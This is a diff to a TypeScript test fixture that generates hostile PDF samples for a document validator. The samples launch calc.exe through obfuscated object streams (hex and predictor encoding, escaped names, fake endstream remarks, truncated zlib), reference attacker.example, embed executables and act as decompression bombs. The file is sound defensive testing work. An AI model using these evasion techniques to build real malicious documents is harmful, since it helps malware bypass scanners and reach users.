@@ -1,4 +1,4 @@
-import { deflateSync, gzipSync } from 'node:zlib';
+import { constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
 import { makeCompoundFile, wordBeginning } from './make-compound-file.ts';
 import { makePdf, stream, writePdf } from './make-pdf.ts';
@@ -64,8 +64,35 @@ const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.ex
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
+const LAUNCH = '<< /S /Launch /F (calc.exe) >>';
 const objectList = (content: string) =>
   stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
+/** One that starts a program, its dictionary and bytes as whoever makes it writes them. */
+const launching =
+  (dictionary: string, pack: (content: Buffer) => Buffer = deflateSync, before = '') =>
+  () => {
+    const list = stream(`/N 1 /First 8 ${dictionary}`, pack(Buffer.from(`20000 0 ${LAUNCH}`)));
+    return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
+  };
+const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
+/** Packed as pictures are: in lines, each byte the difference to the one above. */
+function inLines(content: Buffer): Buffer {
+  const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
+    2,
+    ...[0, 1, 2, 3].map((n) => (content[line * 4 + n] ?? 32) - (content[line * 4 + n - 4] ?? 0)),
+  ]);
+  return deflateSync(Buffer.from(lines.flat()));
+}
+/** A part of it is not packed, and says that the object ends. */
+function withEarlyEnd(content: Buffer): Buffer {
+  const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
+  const length = Buffer.alloc(4);
+  length.writeUInt16LE(plain.length, 0);
+  length.writeUInt16LE(0xffff - plain.length, 2);
+  const rest = content.subarray(8);
+  const checksum = deflateSync(Buffer.concat([plain, rest])).subarray(-4);
+  return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
+}
 
 /** Sent where PDF, DOC and DOCX are asked for. */
 export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
@@ -133,7 +160,128 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
     expected: 'FILE_ACTIVE',
   },
   'a PDF that starts a program from a packed list': {
-    bytes: () => makePdf({ objects: [objectList('<< /S /Launch /F (calc.exe) >>')] }),
+    bytes: () => makePdf({ objects: [objectList(LAUNCH)] }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a packed list with a long dictionary': {
+    bytes: launching(`/Type /ObjStm /Filter /FlateDecode ${' '.repeat(5_000)}`),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that is packed twice': {
+    bytes: launching('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', (content) =>
+      inHexadecimal(deflateSync(content)),
+    ),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list in hexadecimal': {
+    bytes: launching('/Type /ObjStm /Filter /ASCIIHexDecode', inHexadecimal),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that is packed in lines': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', inLines),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that says elsewhere how it is packed': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode /DecodeParms [20001 0 R]', inLines),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that says twice how it is packed': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode /Filter /ASCIIHexDecode', inHexadecimal),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list under another spelling': {
+    bytes: launching('/Type /Obj#53tm /Filter /FlateDecode'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list packed under another spelling': {
+    bytes: launching('/Type /ObjStm /#46ilter /Flate#44ecode'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that does not say what it is': {
+    bytes: launching('/Filter /FlateDecode'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that seems to end early': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode', withEarlyEnd),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list with a remark that looks like another object': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode % 7 0 obj << >> stream\n'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list with words that look like another object': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode /Note (endstream endobj 7 0 obj << >>\nstream\n)'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list behind a remark': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode', deflateSync, '% 7 0 obj ( <<\n'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that does not begin on a line of its own': {
+    bytes: () =>
+      Buffer.from(
+        launching('/Type /ObjStm /Filter /FlateDecode')().toString('latin1').replaceAll('stream\nx', 'stream\rx'),
+        'latin1',
+      ),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a list that is broken behind that': {
+    bytes: launching('/Type /ObjStm /Filter /FlateDecode', (content) =>
+      Buffer.concat([deflateSync(content, { finishFlush: constants.Z_SYNC_FLUSH }), Buffer.alloc(40, 0xff)]),
+    ),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF with a list that is in another file': {
+    bytes: launching('/Type /ObjStm /F (//attacker.example/list)'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a PDF with a page that is in another file': {
+    bytes: () =>
+      makePdf({ objects: [stream('/#46 << /FS /URL /F (https://attacker.example/page) >>', Buffer.alloc(0))] }),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a PDF with a list that unfolds to 200 MB': {
+    bytes: () =>
+      makePdf({ objects: [stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(zeros(200)))] }),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a PDF of dictionaries that never end': {
+    bytes: () => makePdf({ objects: ['obj<<('.repeat(MEGABYTE)] }),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a PDF of remarks that never end': {
+    bytes: () => makePdf({ objects: ['/XFA%'.repeat(MEGABYTE)] }),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a PDF with packed lists as good programs write them': {
+    bytes: () =>
+      makePdf({
+        objects: [
+          // pdfTeX
+          stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
+          // Acrobat, with the list that this one goes on
+          stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
+          // not packed at all, as programs for looking into PDFs write them
+          stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
+          // what other objects hold: bookmarks, resources of any name, profiles, remarks
+          '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
+          stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
+          stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
+        ],
+      }),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a PDF with a password behind a remark': {
+    bytes: () => makePdf({ trailer: '/Encrypt%\n\0<< /Filter /Standard /V 1 /R 2 >>' }),
+    expected: 'FILE_PROTECTED',
+  },
+  'a PDF that starts a program whose name ends in a remark': {
+    bytes: () => makePdf({ catalogue: '/OpenAction << /S /Launch%\n/F (calc.exe) >>' }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF with a file in it that does not say what it is': {
+    bytes: () =>
+      makePdf({ objects: ['<< /Type /Filespec /EF % here\n << /F 10001 0 R >> >>', stream('', Buffer.from('MZ'))] }),
     expected: 'FILE_ACTIVE',
   },
   'a PDF with a file in it': {
